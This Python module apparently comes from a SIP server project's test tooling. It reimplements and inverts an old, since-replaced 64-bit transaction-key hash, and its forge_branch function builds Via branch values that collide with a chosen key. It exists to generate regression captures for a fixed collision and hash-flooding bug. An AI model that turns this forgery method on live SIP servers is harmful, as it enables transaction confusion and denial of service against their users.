# SPDX-License-Identifier: GPL-2.0-or-later
"""The transaction key of commit cd9e666, in Python, with its inverse.

Until issue 18, transactions were stored by a 64-bit hash alone
(``sa_txn_key`` in src/txn_key.c, steps in src/hash64.h): a fixed public
seed, 64-bit words mixed in by ``h = g(h ^ w)`` with
``g(x) = m ^ (m >> 29), m = x * C mod 2**64`` and a splitmix64 finalizer.
Every step is a bijection of the 64-bit state, so anyone who has read that
code can walk a key backwards and pick the last 8-byte word of a Via branch
that gives any key they like.  This module does exactly that, for two users:

- captures/make/handmade.py (hm-hash-collision.pcapng): a second INVITE whose
  key equals another call's key (``forge_branch``);
- tools/bench/make_flood_capture.py: many INVITEs whose keys share their low
  bits, so they fall into one probe run of the old open-addressing table.

Standard library only, deterministic.  The key of an RFC 3261 request
(branch starting with z9hG4bK) is::

    h = SEED
    h = u32(h, 1)
    h = slice(h, branch)
    h = slice(h, method)
    h = endpoint(h, client address, port 0)
    h = endpoint(h, server address, server port)
    key = finish(h)

Addresses are the raw network-order bytes (4 for IPv4, 16 for IPv6); words
are read little endian (x86, as memcpy does).  ``python3 oldhash.py --check
SRCDIR`` compiles a small C program against SRCDIR/src/hash64.h and
SRCDIR/src/txn_key.c (e.g. a ``git archive`` of cd9e666) and compares it
with this module on a few thousand inputs.
"""

import ipaddress

MASK = (1 << 64) - 1
SEED = 0xcbf29ce484222325
MUL = 0x9e3779b97f4a7c15
MUL_INV = pow(MUL, -1, 1 << 64)
F1 = 0xbf58476d1ce4e5b9
F2 = 0x94d049bb133111eb
F1_INV = pow(F1, -1, 1 << 64)
F2_INV = pow(F2, -1, 1 << 64)

# RFC 3261 token characters (what a branch may hold): alphanum and -.!%*_+`'~
TOKEN = (b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
         b"-.!%*_+`'~")
TOKEN_SET = frozenset(TOKEN)


def _unxorshift(y, s):
    """Inverse of x -> x ^ (x >> s) on 64 bits."""
    x = y
    for _ in range(64 // s + 1):
        x = y ^ (x >> s)
    return x


def mix_word(h, w):
    h = ((h ^ w) * MUL) & MASK
    return h ^ (h >> 29)


def unmix(h):
    """g^-1: the value ``h_before ^ w`` that mix_word turned into ``h``."""
    return (_unxorshift(h, 29) * MUL_INV) & MASK


def unmix_word(h, w):
    """The state before mix_word(., w) gave ``h``."""
    return unmix(h) ^ w


def hash_u32(h, v):
    return mix_word(h, (v & 0xFFFFFFFF) | (1 << 63))


def _tail_word(data):
    """(word, needs_len) for the part of sa_hash_bytes after the full words."""
    n = len(data)
    rest = n % 8
    if rest == 0:
        return None
    if n >= 8:
        w = int.from_bytes(data[n - 8:], "little")
    elif rest >= 4:
        lo = int.from_bytes(data[:4], "little")
        hi = int.from_bytes(data[n - 4:], "little")
        w = lo | hi << 32
    else:
        w = data[0] | data[n // 2] << 8 | data[n - 1] << 16
    return w ^ ((rest << 59) & MASK)      # the length left after the full words


def bytes_words(data):
    """The 64-bit words sa_hash_bytes mixes in for ``data``, in order."""
    n = len(data)
    words = [int.from_bytes(data[i:i + 8], "little") for i in range(0, n - n % 8, 8)]
    t = _tail_word(data)
    if t is not None:
        words.append(t)
    return words


def hash_bytes(h, data):
    for w in bytes_words(data):
        h = mix_word(h, w)
    return h


def slice_words(data):
    return [(len(data) & 0xFFFFFFFF) | (1 << 63)] + (bytes_words(data) if data else [])


def hash_slice(h, data):
    for w in slice_words(data):
        h = mix_word(h, w)
    return h


def addr_bytes(addr):
    """'192.0.2.10' or '2001:db8::1' -> network-order bytes; bytes pass through."""
    if isinstance(addr, (bytes, bytearray)):
        return bytes(addr)
    return ipaddress.ip_address(addr).packed


def endpoint_words(addr, port):
    a = addr_bytes(addr)[:16]
    return [((port << 8) | len(a)) & 0xFFFFFFFF | (1 << 63)] + bytes_words(a)


def hash_endpoint(h, addr, port):
    for w in endpoint_words(addr, port):
        h = mix_word(h, w)
    return h


def finish(h):
    h ^= h >> 30
    h = (h * F1) & MASK
    h ^= h >> 27
    h = (h * F2) & MASK
    h ^= h >> 31
    return h if h else 1


def unfinish(k):
    """The state that finish() turned into ``k`` (k != 1 or the state was 1)."""
    h = _unxorshift(k, 31)
    h = (h * F2_INV) & MASK
    h = _unxorshift(h, 27)
    h = (h * F1_INV) & MASK
    return _unxorshift(h, 30)


def to_bytes(s):
    return s.encode() if isinstance(s, str) else bytes(s)


def txn_key(branch, method, client, server, server_port):
    """Old sa_txn_key of an RFC 3261 request (branch begins with z9hG4bK).

    ``client`` is the request's source address (its port is left out),
    ``server``/``server_port`` its destination.  For a response, pass the
    response's destination as ``client`` and its source as ``server``."""
    branch = to_bytes(branch)
    assert branch.startswith(b"z9hG4bK")
    h = hash_u32(SEED, 1)
    h = hash_slice(h, branch)
    h = hash_slice(h, to_bytes(method))
    h = hash_endpoint(h, client, 0)
    h = hash_endpoint(h, server, server_port)
    return finish(h)


def after_branch_words(method, client, server, server_port):
    """The words mixed in after the branch, in order."""
    return (slice_words(to_bytes(method)) + endpoint_words(client, 0)
            + endpoint_words(server, server_port))


def branch_prefix_state(prefix, total_len):
    """State after seed, u32(1), the branch length word and the full words of
    ``prefix`` (a multiple of 8 bytes) of a branch of ``total_len`` bytes."""
    assert len(prefix) % 8 == 0 and total_len % 8 == 0 and total_len >= len(prefix) + 8
    h = hash_u32(SEED, 1)
    h = mix_word(h, (total_len & 0xFFFFFFFF) | (1 << 63))
    for i in range(0, len(prefix), 8):
        h = mix_word(h, int.from_bytes(prefix[i:i + 8], "little"))
    return h


def target_pre_xor(key, method, client, server, server_port):
    """For a branch of length multiple of 8: the value ``state ^ last_word``
    must have (state = hash state before the branch's last word) so that the
    whole key is ``key``.  Pure function of the key and what follows the branch."""
    h = unfinish(key)
    for w in reversed(after_branch_words(method, client, server, server_port)):
        h = unmix_word(h, w)
    return unmix(h)


def is_token_word(w):
    return all(b in TOKEN_SET for b in w.to_bytes(8, "little"))


def token_word(n):
    """The n-th 8-character token word (base 72, deterministic)."""
    out = bytearray()
    for _ in range(8):
        n, r = divmod(n, len(TOKEN))
        out.append(TOKEN[r])
    return bytes(out)


def forge_branch(key, method, client, server, server_port, head=b"z9hG4bK-", start=0):
    """A branch (head + 8 + 8 token bytes, 24 bytes with the default head)
    whose old txn_key with these addresses and method is ``key``.

    Tries the second-to-last word in the order token_word(start), (start+1),
    ...; about 1 in 25 600 gives a last word of 8 token bytes, so this takes
    a fraction of a second.  Returns (branch, tries)."""
    head = to_bytes(head)
    assert head.startswith(b"z9hG4bK") and len(head) % 8 == 0
    total = len(head) + 16
    s0 = branch_prefix_state(head, total)
    x = target_pre_xor(key, method, client, server, server_port)
    n = start
    while True:
        w1 = token_word(n)
        s1 = mix_word(s0, int.from_bytes(w1, "little"))
        w2 = x ^ s1
        if is_token_word(w2):
            br = head + w1 + w2.to_bytes(8, "little")
            assert txn_key(br, method, client, server, server_port) == key
            return br.decode("ascii"), n - start + 1
        n += 1


# ---------------------------------------------------------------------------
# check against the C code
# ---------------------------------------------------------------------------

_C_CHECK = r"""
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "txn_key.h"
#include "hash64.h"
#include "sip_message.h"

/* stdin: lines "branch method client_hex server_hex server_port" (hex = raw address bytes);
 * prints sa_txn_key of a request with that top-Via branch and CSeq, then a few raw steps. */
static int unhex(const char *s, uint8_t *out)
{
    int n = 0;
    for (; s[0] && s[1]; s += 2)
        sscanf(s, "%2hhx", &out[n++]);
    return n;
}

int main(void)
{
    char br[512], method[64], ch[64], sh[64];
    unsigned port;
    while (scanf("%511s %63s %63s %63s %u", br, method, ch, sh, &port) == 5) {
        struct sa_message msg;
        memset(&msg, 0, sizeof msg);
        msg.flags = SA_MSG_HAS_CSEQ | SA_MSG_RFC3261_BRANCH;
        msg.via_branch = (struct sa_slice){ br, (uint32_t)strlen(br) };
        struct sa_endpoint c = { 0 }, s = { 0 };
        c.addr_len = (uint8_t)unhex(ch, c.addr);
        c.port = 5060;
        s.addr_len = (uint8_t)unhex(sh, s.addr);
        s.port = (uint16_t)port;
        bool legacy;
        struct sa_slice m = { method, (uint32_t)strlen(method) };
        uint64_t k = sa_txn_key(&msg, m, &c, &s, &legacy);
        uint64_t b = sa_hash_bytes(12345, br, strlen(br));
        printf("%016llx %016llx %016llx\n", (unsigned long long)k, (unsigned long long)b,
               (unsigned long long)sa_hash_finish(b));
    }
    return 0;
}
"""


def check_against_c(srcdir, count=3000):
    """Compile _C_CHECK against SRCDIR/src and compare; returns the number of inputs checked."""
    import os
    import random
    import subprocess
    import tempfile
    rnd = random.Random(18)
    with tempfile.TemporaryDirectory() as tmp:
        c = os.path.join(tmp, "check.c")
        exe = os.path.join(tmp, "check")
        with open(c, "w") as f:
            f.write(_C_CHECK)
        src = os.path.join(srcdir, "src")
        subprocess.run(["cc", "-O1", "-std=c11", "-I", src, "-o", exe, c,
                        os.path.join(src, "txn_key.c"), os.path.join(src, "sip_message.c")],
                       check=True)
        cases = []
        for i in range(count):
            n = 7 + rnd.randrange(0, 60) if i % 3 else 7 + rnd.randrange(0, 4) * 8 + 1
            br = b"z9hG4bK" + bytes(rnd.choice(TOKEN) for _ in range(n - 7))
            if i == 0:
                br = b"z9hG4bK"
            method = rnd.choice([b"INVITE", b"BYE", b"ACK", b"OPTIONS", b"X", b"SUBSCRIBE", b"REGISTERX"])
            v6 = i % 4 == 3
            cl = bytes(rnd.randrange(256) for _ in range(16 if v6 else 4))
            sv = bytes(rnd.randrange(256) for _ in range(16 if v6 else 4))
            port = rnd.randrange(65536)
            cases.append((br, method, cl, sv, port))
        inp = "".join("%s %s %s %s %d\n" % (b.decode(), m.decode(), c_.hex(), s.hex(), p)
                      for b, m, c_, s, p in cases)
        out = subprocess.run([exe], input=inp.encode(), stdout=subprocess.PIPE,
                             check=True).stdout.decode().split("\n")
        for (br, method, cl, sv, port), line in zip(cases, out):
            k, b, fb = (int(x, 16) for x in line.split())
            mine = (txn_key(br, method, cl, sv, port), hash_bytes(12345, br),
                    finish(hash_bytes(12345, br)))
            if mine != (k, b, fb):
                raise SystemExit("MISMATCH for %r %r %s %s %d: C %x %x %x, Python %x %x %x"
                                 % ((br, method, cl.hex(), sv.hex(), port, k, b, fb) + mine))
        # inverses
        for _ in range(1000):
            h = rnd.getrandbits(64)
            w = rnd.getrandbits(64)
            assert unmix_word(mix_word(h, w), w) == h
            if finish(h) != 1:
                assert unfinish(finish(h)) == h
        return len(cases)


if __name__ == "__main__":
    import sys
    if len(sys.argv) == 3 and sys.argv[1] == "--check":
        print("oldhash: %d keys equal to the C code's in %s" % (check_against_c(sys.argv[2]), sys.argv[2]))
    else:
        print(__doc__)
